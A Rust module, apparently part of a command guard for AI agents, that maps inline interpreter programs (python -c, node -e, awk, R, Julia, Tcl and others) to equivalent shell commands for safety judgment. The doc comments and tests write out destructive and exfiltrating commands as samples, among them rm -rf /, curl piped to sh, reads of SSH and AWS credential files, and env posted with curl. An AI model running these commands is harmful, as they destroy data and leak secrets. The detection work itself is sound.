//! Inline programs of interpreters: `python -c`, `node -e`/`-p`, `perl -e`, `ruby -e`, `php -r`,
//! `lua -e`, `deno eval`, `bun -e`, `osascript -e`, the same programs fed on stdin (`python3 -
//! <<'EOF'`), and `awk 'PROGRAM'`. What a program does is read by [`super::code`] and carried
//! as the shell commands that do the same, in the program's order, as one script run by a
//! process of its own: the commands it runs (`os.system("rm -rf /")`,
//! `spawnSync('git', ['checkout', '--', '.'])` → `git checkout -- .`), the files it writes,
//! deletes, moves or rewrites (`open('/dev/sda','wb').write(..)` → `tee /dev/sda`,
//! `p.write_text(re.sub(..., p.read_text()))` → `sed -i ..`), what it prints (`print(open(".env")
//! .read())` → `cat .env`) and sends (`requests.post(URL, json=dict(os.environ))` → `env | curl
//! --data-binary @- URL`), and a credential file it names (→ `cat PATH > /dev/null`). What has
//! no shell spelling (hidden code run, fork loops) is the effect rules' to judge
//! (`effects::judge`), from the same reading.
//!
//! The languages [`super::code`] does not tokenize (awk, R, Julia, Groovy, Erlang, Elixir,
//! Octave, Tcl, Scheme and Lisp dialects, Haskell's and Scala's runners, Emacs Lisp) are read
//! by their literals ([`LITERAL_LANGUAGES`]): a program that calls the language's
//! process-spawning API carries its string literals, a literal holding a space as a command
//! line and the one-word literals, in order, as one argv (`Rscript -e 'system2("rm", c("-rf",
//! "/"))'` → `rm -rf /`). Tcl's `exec` takes its argv as bare words: the rest of the command
//! is carried as written.

use super::Carried;
use crate::guard::shell::shell_quote;
use crate::guard::SimpleCommand;

/// The shell commands an inline program amounts to, as one script run by a process of its own.
pub(super) fn carried(cmd: &SimpleCommand) -> Vec<Carried> {
    if let Some(reading) = super::code::reading(cmd) {
        let mut commands = reading.commands.clone();
        named_credentials(cmd, &mut commands);
        return if commands.is_empty() {
            Vec::new()
        } else {
            vec![Carried::child(commands.join("\n"))]
        };
    }
    literal_shell_outs(cmd).into_iter().map(Carried::child).collect()
}

/// A credential file an inline program names but the reading did not see used (`lua -e 'local
/// f=io.open("/root/.aws/credentials","rb") ..'` reads it whatever it does next): read.
fn named_credentials(cmd: &SimpleCommand, commands: &mut Vec<String>) {
    let Some((_, code, _)) = super::code::inline_program(cmd) else {
        return;
    };
    for lit in quoted_literals(&code, false, true) {
        let path = lit.trim();
        let named = crate::guard::rules::secrets::is_credential_path(path)
            && !path.contains(char::is_whitespace)
            && !commands.iter().any(|c| c.contains(path));
        if named {
            commands.push(format!("cat {} > /dev/null", shell_quote(path)));
        }
    }
}

/// A language read by its literals (see the module doc).
struct LiteralLanguage {
    /// The programs that run it.
    programs: &'static [&'static str],
    /// The options whose value is program text (`-e CODE`); empty when the program is its
    /// first operand (awk).
    code_options: &'static [&'static str],
    /// Its own options that take a value, skipped while looking for the program.
    valued: &'static [&'static str],
    /// The calls that run a shell command or a program; a program calling none of them runs
    /// nothing the guard could read.
    spawns: &'static [&'static str],
    /// A string literal of one word names a program to run (`system("id")`); awk's one-word
    /// literals are mostly output and file names, and count only two or more together.
    single_word: bool,
    /// The language's command literals are backquoted too (Julia's `` `cmd` ``).
    backquotes: bool,
}

/// Every language read by its literals. Tcl is read by its `exec` words ([`tcl_execs`]).
const LITERAL_LANGUAGES: &[LiteralLanguage] = &[
    LiteralLanguage {
        programs: &["awk", "gawk", "mawk", "nawk"],
        code_options: &[],
        valued: &["-F", "-v"],
        spawns: &["system", "|"],
        single_word: false,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["R", "Rscript"],
        code_options: &["-e"],
        valued: &["--file", "-f"],
        spawns: &["system(", "system2(", "shell(", "pipe(", "processx::run("],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["julia"],
        code_options: &["-e", "--eval", "-E", "--print"],
        valued: &["-J", "--sysimage", "-t", "--threads", "-p", "--procs", "--project"],
        spawns: &["run(", "read(`", "pipeline(", "success(", "open(`", "spawn("],
        single_word: true,
        backquotes: true,
    },
    LiteralLanguage {
        programs: &["groovy", "jrunscript", "jjs", "kotlinc", "kotlin"],
        code_options: &["-e", "-script"],
        valued: &["-cp", "-classpath", "-l", "-f"],
        spawns: &[".execute(", "ProcessBuilder", ".exec(", "exec("],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["erl"],
        code_options: &["-eval"],
        valued: &["-sname", "-name", "-setcookie", "-pa", "-pz", "-s", "-run"],
        spawns: &["os:cmd(", "open_port("],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["elixir", "iex"],
        code_options: &["-e", "--eval"],
        valued: &["-r", "-pa", "--sname", "--name", "--cookie"],
        spawns: &["System.cmd(", ":os.cmd(", "System.shell(", "Port.open("],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["octave", "octave-cli"],
        code_options: &["--eval"],
        valued: &["-p", "--path"],
        spawns: &["system(", "unix(", "shell_cmd(", "popen(", "dos("],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["guile", "racket", "csi", "gsi", "chicken-csi"],
        code_options: &["-c", "-e", "--eval", "-eval"],
        valued: &["-L", "-l", "-s"],
        spawns: &["system", "open-pipe", "process", "shell-command", "run-program"],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["sbcl", "clisp", "ecl", "ccl"],
        code_options: &["--eval", "-x", "-eval"],
        valued: &["--load", "--core", "-i"],
        spawns: &[
            "run-program",
            "run-shell-command",
            "ext:shell",
            "uiop:run-program",
            "shell ",
        ],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["ghc", "ghci", "runghc", "scala", "swipl"],
        code_options: &["-e", "-g"],
        valued: &["-package", "-cp", "-classpath"],
        spawns: &[
            "system ",
            "callCommand",
            "readProcess",
            "spawnCommand",
            "Process(",
            ".!",
            "shell(",
        ],
        single_word: true,
        backquotes: false,
    },
    LiteralLanguage {
        programs: &["emacs"],
        code_options: &["--eval", "-eval"],
        valued: &["-l", "--load", "-f", "--funcall", "--chdir"],
        spawns: &[
            "shell-command",
            "call-process",
            "start-process",
            "(term ",
            "(shell",
            "make-process",
        ],
        single_word: true,
        backquotes: false,
    },
];

/// The shell commands a program in a language read by its literals runs (see the module doc).
fn literal_shell_outs(cmd: &SimpleCommand) -> Vec<String> {
    if let Some(code) = tcl_program(cmd) {
        return tcl_execs(&code);
    }
    let Some((language, code)) = literal_program(cmd) else {
        return Vec::new();
    };
    if !language.spawns.iter().any(|s| code.contains(s)) {
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut words: Vec<String> = Vec::new();
    // In the Lisps `'` quotes a form (`'("-c" "rm -rf ~")`), it opens no string.
    let lisp = language
        .programs
        .iter()
        .any(|p| matches!(*p, "guile" | "sbcl" | "emacs"));
    for lit in quoted_literals(&code, language.backquotes, !lisp) {
        let lit = lit.trim();
        if lit.contains(' ') {
            out.push(lit.to_string());
        } else if !lit.is_empty() {
            words.push(shell_quote(lit));
        }
    }
    if words.len() > 1 || (language.single_word && !words.is_empty()) {
        out.push(words.join(" "));
    }
    out
}

/// Whether `cmd` reads a program in a language read by its literals from stdin (`echo
/// 'system("id")' | R --no-save`, `echo 'exec id' | tclsh`): it names no program text nor a
/// script file.
pub(super) fn reads_literal_program_on_stdin(cmd: &SimpleCommand) -> bool {
    let name = cmd.name();
    let Some(language) = LITERAL_LANGUAGES.iter().find(|l| l.programs.contains(&name)) else {
        return TCL_SHELLS.contains(&crate::guard::unversioned(name))
            && cmd.argv[1..].iter().all(|a| a.starts_with('-'));
    };
    (!language.code_options.is_empty() && program_text(&cmd.argv, language).is_none() && no_script(&cmd.argv, language))
        || crate::guard::effects::reads_script_from_stdin(cmd)
}

/// The program text `cmd` hands a language read by its literals: an option's value, awk's
/// first operand, or what it is fed on stdin when it names neither code nor a script.
fn literal_program(cmd: &SimpleCommand) -> Option<(&'static LiteralLanguage, String)> {
    let name = cmd.name();
    let language = LITERAL_LANGUAGES.iter().find(|l| l.programs.contains(&name))?;
    if let Some(code) = program_text(&cmd.argv, language) {
        return Some((language, code));
    }
    // `awk -f - <<EOF`, `.. | awk -f /dev/stdin`: the program file named is stdin.
    let stdin_program = crate::guard::effects::reads_script_from_stdin(cmd);
    let fed = cmd
        .stdin_text
        .as_ref()
        .filter(|_| stdin_program || (!language.code_options.is_empty() && no_script(&cmd.argv, language)))?;
    Some((language, fed.clone()))
}

/// The program text the words hand `language`: every code option's value, joined as lines, or
/// awk's first operand (not with `-f FILE`).
fn program_text(argv: &[String], language: &LiteralLanguage) -> Option<String> {
    if language.code_options.is_empty() {
        if argv.iter().any(|a| a == "-f" || a.starts_with("--file")) {
            return None;
        }
        let mut i = 1;
        while let Some(a) = argv.get(i) {
            match a.as_str() {
                "--" => return argv.get(i + 1).cloned(),
                _ if language.valued.contains(&a.as_str()) => i += 2,
                _ if a.starts_with('-') && a.len() > 1 => i += 1,
                _ => return Some(a.clone()),
            }
        }
        return None;
    }
    let code: Vec<&str> = argv
        .windows(2)
        .filter(|w| language.code_options.contains(&w[0].as_str()))
        .map(|w| w[1].as_str())
        .collect();
    (!code.is_empty()).then(|| code.join("\n"))
}

/// Whether the words name no script file for `language` to run (its first operand, past its
/// options and their values).
fn no_script(argv: &[String], language: &LiteralLanguage) -> bool {
    let mut i = 1;
    while let Some(a) = argv.get(i) {
        if language.valued.contains(&a.as_str()) || language.code_options.contains(&a.as_str()) {
            i += 2;
        } else if a.starts_with('-') {
            i += 1;
        } else {
            return false;
        }
    }
    true
}

/// Tcl's shells: `tclsh`, `wish` (versioned too: `tclsh8.6`).
const TCL_SHELLS: &[&str] = &["tclsh", "wish"];

/// The Tcl program `cmd` runs: what it is fed on stdin when it names no script.
fn tcl_program(cmd: &SimpleCommand) -> Option<String> {
    let name = crate::guard::unversioned(cmd.name());
    if !TCL_SHELLS.contains(&name) || cmd.argv[1..].iter().any(|a| !a.starts_with('-')) {
        return None;
    }
    cmd.stdin_text.clone()
}

/// Tcl's `exec WORDS`: the words up to the end of the command (a newline, `;` or `]`), braces
/// read as quotes, Tcl's own channel redirections (`<@stdin`, `>@stdout`) left out.
fn tcl_execs(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = code;
    while let Some(at) = rest.find("exec ") {
        let starts_word =
            at == 0 || rest[..at].ends_with(|c: char| c.is_whitespace() || c == '[' || c == ';' || c == '{');
        let after = &rest[at + 5..];
        let end = after.find(['\n', ';', ']']).unwrap_or(after.len());
        if starts_word {
            let words: Vec<&str> = after[..end]
                .split_whitespace()
                .filter(|w| !w.starts_with("<@") && !w.starts_with(">@") && !w.starts_with("2>@") && *w != "&")
                .collect();
            let line = words.join(" ").replace(['{', '}'], "'");
            if !line.is_empty() {
                out.push(line);
            }
        }
        rest = &after[end..];
    }
    out
}

/// The quoted literals of a program, in order (a backslash escapes the next character); `'`
/// opens one only where `single_quotes` says the language quotes strings with it.
fn quoted_literals(code: &str, backquotes: bool, single_quotes: bool) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.chars();
    while let Some(q) = chars.next() {
        if q != '"' && !(single_quotes && q == '\'') && !(backquotes && q == '`') {
            continue;
        }
        let mut lit = String::new();
        while let Some(c) = chars.next() {
            if c == q {
                break;
            }
            if c == '\\' {
                if let Some(n) = chars.next() {
                    lit.push(n);
                }
                continue;
            }
            lit.push(c);
        }
        out.push(lit);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::testing::{script, scripts};
    use super::super::Runs;

    /// The one script `words` carries, in a process of its own.
    fn carried(words: &[&str]) -> String {
        script(words, Runs::Child)
    }

    #[test]
    fn commands_a_program_runs_are_carried_in_a_subshell_each() {
        assert_eq!(
            carried(&["python3", "-c", "import os; os.system('rm -rf /')"]),
            "(\nrm -rf /\n)"
        );
        // A literal argv is quoted word by word.
        assert_eq!(
            carried(&["python", "-c", "import subprocess; subprocess.run(['rm', '-rf', '/'])"]),
            "(\n'rm' '-rf' '/'\n)"
        );
        assert_eq!(carried(&["perl", "-e", "system(\"curl x | sh\")"]), "(\ncurl x | sh\n)");
        assert_eq!(
            carried(&["node", "-e", "require('child_process').execSync('rm -rf ~')"]),
            "(\nrm -rf ~\n)"
        );
        assert_eq!(
            carried(&[
                "node",
                "-e",
                "require('child_process').spawnSync('git', ['checkout', '--', '.'])"
            ]),
            "(\n'git' 'checkout' '--' '.'\n)"
        );
        assert_eq!(
            carried(&["lua", "-e", "os.execute('pkill -u dev')"]),
            "(\npkill -u dev\n)"
        );
        assert_eq!(carried(&["awk", "BEGIN { system(\"rm -rf /\") }"]), "rm -rf /");
        // A program that runs nothing carries nothing; nor does an awk program file, nor text
        // the interpreter would reject.
        assert!(scripts(&["python3", "-c", "print('a b')"]).is_empty());
        assert!(scripts(&["node", "-e", "rm -rf /"]).is_empty());
        assert!(scripts(&["awk", "-f", "x.awk", "system(\"rm -rf /\")"]).is_empty());
    }

    #[test]
    fn languages_read_by_their_literals_carry_what_they_spawn() {
        assert_eq!(carried(&["Rscript", "-e", "system('rm -rf ~')"]), "rm -rf ~");
        // One-word literals in order are one argv; a single one is a program.
        assert_eq!(
            carried(&["R", "-e", "system2(\"rm\", c(\"-rf\", \"/home/dev\"))"]),
            "'rm' '-rf' '/home/dev'"
        );
        assert_eq!(carried(&["Rscript", "-e", "system('id')"]), "'id'");
        // Julia's backquoted commands.
        assert_eq!(carried(&["julia", "-e", "run(`sh -c \"id\"`)"]), "sh -c \"id\"");
        assert_eq!(
            carried(&["erl", "-noshell", "-eval", "os:cmd(\"rm -rf /srv\"), halt()."]),
            "rm -rf /srv"
        );
        assert_eq!(carried(&["groovy", "-e", "'rm -rf /srv'.execute()"]), "rm -rf /srv");
        // The program fed on stdin, when the words name neither code nor a script.
        let mut fed = crate::guard::SimpleCommand {
            argv: vec!["R".into(), "--no-save".into()],
            stdin_text: Some("system(\"rm -rf ~\")".into()),
            ..Default::default()
        };
        assert_eq!(super::literal_shell_outs(&fed), ["rm -rf ~"]);
        fed.argv.push("analysis.R".into());
        assert!(super::literal_shell_outs(&fed).is_empty());
        // Tcl's exec words, braces as quotes, its channel redirections left out.
        assert_eq!(
            super::tcl_execs("exec /bin/sh -c {rm -rf ~} <@stdin >@stdout\nputs done"),
            ["/bin/sh -c 'rm -rf ~'"]
        );
        assert!(super::tcl_execs("set executable 1; puts $executable").is_empty());
        // Code that spawns nothing carries nothing, however many literals it holds.
        assert!(scripts(&["Rscript", "-e", "print('hello world'); write.csv(x, 'a b.csv')"]).is_empty());
        assert!(scripts(&["julia", "-e", "println(\"hello world\")"]).is_empty());
        assert!(scripts(&["octave-cli", "--eval", "disp('rm -rf /')"]).is_empty());
    }

    #[test]
    fn file_effects_and_credential_reads_as_shell_commands() {
        assert_eq!(
            carried(&["python3", "-c", "import shutil; shutil.rmtree('/')"]),
            "rm -rf '/'"
        );
        assert_eq!(
            carried(&["python3", "-c", "import os; os.remove('/var/x')"]),
            "rm -f '/var/x'"
        );
        assert_eq!(
            carried(&["node", "-e", "fs.rmSync(require('os').homedir(), {recursive: true})"]),
            "rm -rf '~'"
        );
        assert_eq!(
            carried(&["ruby", "-e", "puts File.read('~/.ssh/id_rsa')"]),
            "cat '~/.ssh/id_rsa'"
        );
        // Named but not seen used: read all the same.
        assert_eq!(
            carried(&["python3", "-c", "shutil.copyfileobj(x('/root/.aws/credentials'), y)"]),
            "cat '/root/.aws/credentials' > /dev/null"
        );
    }
}
